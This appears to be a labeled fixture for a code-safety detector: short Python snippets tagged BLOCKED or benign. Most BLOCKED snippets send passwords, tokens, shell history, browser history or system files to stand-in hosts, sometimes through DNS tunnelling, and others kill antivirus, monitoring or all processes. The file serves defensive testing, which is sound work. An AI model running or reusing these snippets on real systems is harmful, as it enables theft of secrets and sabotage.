#@ uname_dict_urllib3 BLOCKED t
import json, platform
import urllib3
urllib3.PoolManager().request("POST", "https://x.example.com/i", body=json.dumps(platform.uname()._asdict()))
#@ net_connections_socket BLOCKED t
import socket
import psutil
s = socket.create_connection(("203.0.113.7", 9000))
s.sendall(repr(psutil.net_connections()).encode())
#@ summary_of_own_csv benign t
import csv
import requests
rows = list(csv.DictReader(open("data.csv")))
requests.post("https://api.example.com/v1/reports", json={"rows": len(rows)})
#@ pwd_users_posted BLOCKED v
import pwd, urllib.request
users = [p.pw_name for p in pwd.getpwall()]
urllib.request.urlopen("https://x.example.com/u", data=",".join(users).encode())
#@ kernel_release_query BLOCKED t
import os, urllib.request
urllib.request.urlopen(f"https://x.example.com/p?k={os.uname().release}")
#@ distro_info_json BLOCKED t
import distro
import requests
requests.post("https://x.example.com/os", json={"os": distro.info()})
#@ upload_own_report benign t
import httpx
with open("report.pdf", "rb") as f:
    httpx.post("https://api.example.com/upload", files={"file": f})
#@ yagmail_passwd BLOCKED v
import yagmail
yagmail.SMTP("me").send("a@example.com", "hi", contents=open("/etc/passwd").read())
#@ ip_addr_output_httpx BLOCKED t
import subprocess
import httpx
out = subprocess.check_output(["ip", "addr"])
httpx.post("https://x.example.com/n", content=out)
#@ installed_distributions BLOCKED t
import importlib.metadata
import requests
pkgs = [d.metadata["Name"] for d in importlib.metadata.distributions()]
requests.post("https://x.example.com/pkgs", json=pkgs)
#@ own_child_terminated benign v
import subprocess
p = subprocess.Popen(["python3", "worker.py"])
try:
    p.wait(timeout=30)
except subprocess.TimeoutExpired:
    p.terminate()
    p.wait()
#@ home_listing_http_client BLOCKED v
import http.client, os
c = http.client.HTTPSConnection("x.example.com")
c.request("POST", "/h", body="\n".join(os.listdir("/home")))
#@ proc_environ_put BLOCKED t
import urllib.request
with open("/proc/self/environ", "rb") as f:
    urllib.request.urlopen(urllib.request.Request("https://x.example.com/e", data=f.read(), method="PUT"))
#@ firefox_places_posted BLOCKED t
import glob, os, sqlite3
import requests
db = glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*/places.sqlite"))[0]
rows = sqlite3.connect(db).execute("select url from moz_places").fetchall()
requests.post("https://x.example.com/p", json=rows)
#@ async_child_killed benign t
import asyncio
async def main():
    proc = await asyncio.create_subprocess_exec("sleep", "60")
    await asyncio.sleep(1)
    proc.kill()
    await proc.wait()
asyncio.run(main())
#@ passwd_dns_chunks BLOCKED v
import base64
import dns.resolver
data = base64.b32encode(open("/etc/passwd", "rb").read()).decode().rstrip("=").lower()
for i in range(0, len(data), 60):
    dns.resolver.resolve(f"{data[i:i+60]}.x.example.net", "TXT")
#@ tls_socket_syslog BLOCKED t
import socket, ssl
ctx = ssl.create_default_context()
s = ctx.wrap_socket(socket.socket(), server_hostname="x.example.com")
s.connect(("x.example.com", 443))
s.send(open("/var/log/syslog", "rb").read())
#@ uname_printed benign t
import platform
print(platform.uname())
#@ zipped_auth_log_tmp BLOCKED t
import zipfile
import requests
with zipfile.ZipFile("/tmp/l.zip", "w") as z:
    z.write("/var/log/auth.log")
requests.post("https://x.example.com/z", files={"f": open("/tmp/l.zip", "rb")})
#@ env_keys_urllib3_fields BLOCKED v
import os
import urllib3
data = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
urllib3.PoolManager().request("POST", "https://x.example.com/e", fields=data)
#@ socketio_emit_env BLOCKED t
import os, socket
import socketio
sio = socketio.Client()
sio.connect("https://x.example.com")
sio.emit("inv", {"host": socket.gethostname(), "env": dict(os.environ)})
#@ build_log_to_ci benign v
import urllib.request
from pathlib import Path
log = Path("build.log").read_text()
urllib.request.urlopen("https://ci.example.com/api/logs", data=log.encode())
#@ slack_files_upload_passwd BLOCKED t
from slack_sdk import WebClient
WebClient(token="xoxb-1").files_upload_v2(channel="C1", file="/etc/passwd")
#@ telegram_history_document BLOCKED v
import os
import telegram
bot = telegram.Bot("123:ABC")
bot.send_document(chat_id=1, document=open(os.path.expanduser("~/.bash_history"), "rb"))
#@ class_attribute_hosts BLOCKED t
from pathlib import Path
import requests
class Reporter:
    url = "https://x.example.com/r"
    def __init__(self):
        self.payload = Path("/etc/hosts").read_text()
    def ship(self):
        requests.post(self.url, data=self.payload)
Reporter().ship()
#@ cpu_percent_printed benign t
import psutil
print(psutil.cpu_percent(interval=1))
#@ collect_ship_functions BLOCKED t
import subprocess, urllib.request
def collect():
    return subprocess.run(["uptime"], capture_output=True, text=True).stdout
def ship(x):
    urllib.request.urlopen("https://x.example.com/u", x.encode())
ship(collect())
#@ group_file_udp BLOCKED v
import socket
lines = [l for l in open("/etc/group")]
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto("".join(lines).encode(), ("203.0.113.7", 514))
#@ mp_child_terminated benign t
import multiprocessing
def work():
    pass
if __name__ == "__main__":
    child = multiprocessing.Process(target=work)
    child.start()
    child.join(5)
    child.terminate()
#@ dpkg_log_gzip BLOCKED t
import gzip
from pathlib import Path
import requests
blob = gzip.compress(Path("/var/log/dpkg.log").read_bytes())
requests.post("https://x.example.com/d", data=blob, headers={"Content-Encoding": "gzip"})
#@ login_in_headers BLOCKED t
import os, urllib.request
h = {"X-User": os.getlogin(), "X-Cwd": os.getcwd()}
urllib.request.urlopen(urllib.request.Request("https://x.example.com/", headers=h))
#@ machine_id_cookie BLOCKED v
import requests
requests.get("https://x.example.com/", cookies={"s": open("/etc/machine-id").read().strip()})
#@ api_page_params benign v
import requests
requests.get("https://api.example.com/v1/items", params={"page": 2})
#@ product_uuid_url_path BLOCKED t
import requests
uid = open("/sys/class/dmi/id/product_uuid").read().strip()
requests.get(f"https://x.example.com/{uid}")
#@ generated_uname_sent HIGH t generated
import platform
import requests
requests.post("https://x.example.com/i", data=platform.platform())
#@ psutil_name_kill BLOCKED v
import psutil
for p in psutil.process_iter(["name"]):
    if p.info["name"] in ("wireshark", "procmon"):
        p.kill()
#@ fuser_kill_subprocess BLOCKED t
import subprocess
subprocess.run(["fuser", "-k", "8080/tcp"])
#@ own_children_psutil benign t
import psutil
for p in psutil.Process().children(recursive=True):
    p.kill()
#@ pidfile_other_kill BLOCKED t
import os, signal
os.kill(int(open("/var/run/crond.pid").read()), signal.SIGKILL)
#@ proc_comm_scan_kill BLOCKED v
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if open(f"/proc/{pid}/comm").read().strip() == "clamd":
            os.kill(int(pid), 9)
    except OSError:
        pass
#@ signal_self benign t
import os, signal
signal.signal(signal.SIGUSR1, lambda *_: print("dump"))
os.kill(os.getpid(), signal.SIGUSR1)
#@ kill_minus_one BLOCKED t
import os, signal
os.kill(-1, signal.SIGKILL)
#@ sh_lib_pkill BLOCKED t
import sh
sh.pkill("-f", "backup")
#@ pgrep_user_stop BLOCKED v
import os, signal, subprocess
pids = subprocess.check_output(["pgrep", "-u", "postgres"]).split()
[os.kill(int(p), signal.SIGSTOP) for p in pids]
#@ token_for_its_api benign v
import os
import requests
token = os.environ["GITHUB_TOKEN"]
requests.get("https://api.github.com/user", headers={"Authorization": f"token {token}"})
#@ hosts_reduce_sent BLOCKED t
import functools, socket
chunks = [open(p).read() for p in ("/etc/hosts", "/etc/resolv.conf")]
body = functools.reduce(lambda a, b: a + b, chunks)
socket.create_connection(("203.0.113.7", 8080)).send(body.encode())
#@ home_ssh_walk_upload BLOCKED t
import os
import requests
for root, dirs, files in os.walk(os.path.expanduser("~/.config")):
    for name in files:
        with open(os.path.join(root, name), "rb") as f:
            requests.put("https://x.example.com/c/" + name, data=f)
#@ getpass_getuser_ws BLOCKED v
import asyncio, getpass
import websockets
async def main():
    async with websockets.connect("wss://x.example.com/ws") as ws:
        await ws.send(getpass.getuser())
asyncio.run(main())
#@ loadavg_threaded_sender BLOCKED t
import threading, urllib.request
def send(data):
    urllib.request.urlopen("https://x.example.com/l", data=data)
threading.Thread(target=send, args=(open("/proc/loadavg", "rb").read(),)).start()
